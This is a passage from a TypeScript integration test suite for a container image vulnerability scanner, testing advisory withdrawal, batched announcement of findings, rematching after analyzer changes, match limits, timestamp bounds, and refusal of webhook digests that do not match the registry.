      expect(await about('finding.opened', 'DSA-update')).toEqual([]);
      const withdrawn = '2026-02-01T00:00:00Z';
      await new Advisories(store).put([{ ...later('update', withdrawn, { withdrawn }), ...update }]);
      await until('both are gone', async () => (await about('finding.resolved', 'CVE-2026-33332')).length > 0);
    });

    it('is not published when its whole ecosystem is loaded for the first time, except for the worst', async () => {
      const alpine = tarArchive([
        { path: 'etc/os-release', content: 'ID=alpine\nVERSION_ID=3.20.3\nPRETTY_NAME="Alpine Linux v3.20"\n' },
        { path: 'lib/apk/db/installed', content: 'P:old\nV:1.0-r0\nA:x86_64\no:old\n\n' },
      ]);
      registry.put('alpine', '1', [{ content: alpine }]);
      await push('alpine', '1');
      const affected = [{ ...advisory('old').affected[0]!, ecosystem: 'Alpine', release: 'v3.20' }];
      const old = (id: string, severity: 'critical' | 'high') => ({
        ...advisory('old', `old-${id}`),
        affected,
        severity,
      });
      const all = [...Array.from({ length: 60 }, (_, number) => old(`${number}`, 'high')), old('worst', 'critical')];
      await new Advisories(store).put(all);
      const opened = async () =>
        (await events('finding.opened')).filter(({ subject }) => subject.startsWith('CVE-old-'));
      await until('all are opened', async () => (await opened()).length === 61);
      const announced = (await opened()).filter(({ data }) => data.isNews).map(({ subject }) => subject);
      // In lots, each worst first.
      expect(announced).toHaveLength(50);
      expect(announced).toContain('CVE-old-0');
    });

    it('leaves nothing to match for the next push of the package, and everything for a new matching version', async () => {
      await store.query('UPDATE package SET matched_by = 0 WHERE matched_by IS NOT NULL');
      await store.query(
        'DELETE FROM package_match WHERE package_id IN (SELECT id FROM package WHERE source_name = $1)',
        ['vulnerable'],
      );
      await store.query(`UPDATE image SET analyzers_version = 'old' WHERE analyzers_version IS NOT NULL`);
      await store.query(`UPDATE layer SET analyzers_version = 'old'`);
      const again = await startScanner();
      const matched = async () =>
        (await store.query('SELECT FROM package WHERE matched_by IS DISTINCT FROM 0 AND ecosystem IS NOT NULL')).length;
      await until('everything is matched', async () => (await matched()) > 0);
      const outdated = () =>
        store.query(`SELECT FROM image JOIN push_image ON digest = image_digest
      JOIN push ON push.id = push_id WHERE analyzers_version = 'old' AND push.repository = 'late'`);
      await until('images are analyzed again', async () => (await outdated()).length === 0);
      expect(await verdictOf(pushId)).toBe('pass');
      const [plain] = await store.query<{ verdict: string }>(`SELECT verdict FROM push WHERE repository = 'plain'`);
      expect(plain).toEqual({ verdict: 'fail' });
      await again.stop();
    });
  });

  it('stores more matches than the limit in several rounds, and passes nothing until they are complete', async () => {
    const advisories = Array.from({ length: 26 }, (_, number) => advisory('explosive', `explosive-${number}`));
    await new Advisories(store).put(advisories);
    const names = Array.from({ length: 40 }, (_, number) => `explosive${number}`);
    const content = names.map((name) => stanza(name, 'explosive')).join('\n');
    const packages = tarArchive([{ path: 'var/lib/dpkg/status', content }]);
    const digest = registry.put('explosive', '1', [{ content: osRelease }, { content: packages }]);
    const unmatched = async () => (await store.transaction((tx) => new FleetMatches().unmatched(tx, digest))).length;
    const incomplete = expect.objectContaining({
      code: 'LIMIT_EXCEEDED',
      message: expect.stringContaining('2 packages were not compared'),
    });
    const first = await push('explosive', '1');
    expect(first).toMatchObject({ state: 'analyzed', verdict: 'fail' });
    expect(await pushes.warnings(first.id)).toContainEqual(incomplete);
    expect(await unmatched()).toBe(2);
    const again = await push('explosive', '1');
    expect(await pushes.warnings(again.id)).not.toContainEqual(incomplete);
    expect(await unmatched()).toBe(0);
  });

  it.each([
    ['9999-12-31T23:59:59-14:00', null],
    ['0000-01-01T00:00:00Z', null],
    ['1970-01-01T00:00:00Z', new Date(0)],
  ])('stores a time within the range of PostgreSQL: %s', async (created, createdAt) => {
    const digest = registry.put('timed', created.slice(0, 4), [{ content: osRelease }], { created });
    expect(await push('timed', created.slice(0, 4))).toMatchObject({ state: 'analyzed' });
    expect(await new Images(store).get(digest)).toMatchObject({ createdAt });
  });

  it('reads the pushed content from the registry, whatever the webhook claims', async () => {
    const digest = registry.put('real', '1', [{ content: osRelease }, { content: dpkg('real') }]);
    expect(await push('real', '1')).toMatchObject({ state: 'analyzed', digest });
    expect(await push('real', '1', `sha256:${'f'.repeat(64)}`)).toMatchObject({
      state: 'refused',
      code: 'MANIFEST_UNKNOWN',
    });
    expect(await push('real', null, null)).toMatchObject({ state: 'refused', code: 'REFERENCE_MISSING' });
    const packages = await new Images(store).packages(digest);
    expect(packages.map(({ purl }) => purl)).toEqual(['pkg:deb/debian/real@1-1?arch=amd64&distro=debian-12']);
  });
});
